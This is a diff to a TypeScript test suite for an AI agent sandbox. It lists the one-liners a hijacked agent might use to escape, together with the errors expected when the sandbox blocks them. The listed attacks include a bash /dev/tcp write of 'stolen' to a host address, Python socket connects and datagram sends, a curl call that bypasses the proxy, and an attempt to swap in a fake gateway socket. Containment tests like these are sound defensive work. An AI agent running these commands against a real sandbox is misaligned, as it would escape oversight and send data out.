@@ -1,5 +1,7 @@
 /** What a hijacked agent would try, as the one-liners it would write, and what each must come to. */
 
+import { target } from "../support/target.ts";
+
 /** What the host offers as prey; none of it may be reached. */
 export interface Prey {
   /** Listener on the host's loopback and, where it has one, another address. */
@@ -20,6 +22,11 @@ export interface Attack {
   readonly held: RegExp;
   /** What gVisor's kernel answers instead, where it does. */
   readonly gvisor?: RegExp;
+}
+
+/** Asked when an attack is made: a file's target is known only then. */
+function onNetwork(): boolean {
+  return target().link === "network";
 }
 
 const sh = (script: string): readonly string[] => ["sh", "-c", script];
@@ -54,19 +61,20 @@ export function networkAttacks(prey: Prey): readonly Attack[] {
     {
       name: "connects to an address of the host",
       argv: pythonTry(`socket.create_connection(("${address}", ${port}), 3)`),
-      held: /^ENETUNREACH\n$/,
+      held: onNetwork() ? /^(EHOSTUNREACH|ENETUNREACH)\n$/ : /^ENETUNREACH\n$/,
     },
     {
       name: "opens a TCP connection with bash alone",
       argv: ["bash", "-c", `echo stolen > /dev/tcp/${address}/${port}`],
-      held: /Network is unreachable/,
+      held: onNetwork() ? /(No route to host|Network is unreachable)/ : /Network is unreachable/,
     },
     {
       name: "sends a datagram to an address of the host",
       argv: pythonTry(
         `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("${address}", ${port}))`,
       ),
-      held: /^ENETUNREACH\n$/,
+      // Nobody is the next hop, and a datagram hears of that no more (on-link.ts looks at what arrives).
+      held: onNetwork() ? /^(done|ENETUNREACH)\n$/ : /^ENETUNREACH\n$/,
     },
     {
       name: "goes around the proxy with curl",
@@ -147,14 +155,16 @@ export function hostAttacks(prey: Prey): readonly Attack[] {
     {
       name: "finds a socket other than the gateway's",
       argv: sh("find / -xdev -type s 2>/dev/null; find /run /tmp /var /home -type s 2>/dev/null"),
-      held: /^(\/run\/claude-bottle\/gateway\.sock\n)+$/,
+      held: onNetwork() ? /^$/ : /^(\/run\/claude-bottle\/gateway\.sock\n)+$/,
     },
     {
       name: "puts a socket of its own in the gateway's place",
       argv: sh(
         "mv /run/claude-bottle/gateway.sock /run/claude-bottle/old; rm -f /run/claude-bottle/gateway.sock; ls /run/claude-bottle/gateway.sock",
       ),
-      held: /^\/run\/claude-bottle\/gateway\.sock\nmv: .*Read-only file system\nrm: .*Read-only file system\n$/,
+      held: onNetwork()
+        ? /^mv: cannot stat .*\n(rm: .*\n)?ls: cannot access .*\n$/
+        : /^\/run\/claude-bottle\/gateway\.sock\nmv: .*Read-only file system\nrm: .*Read-only file system\n$/,
     },
     {
       name: "changes the programs it runs under",
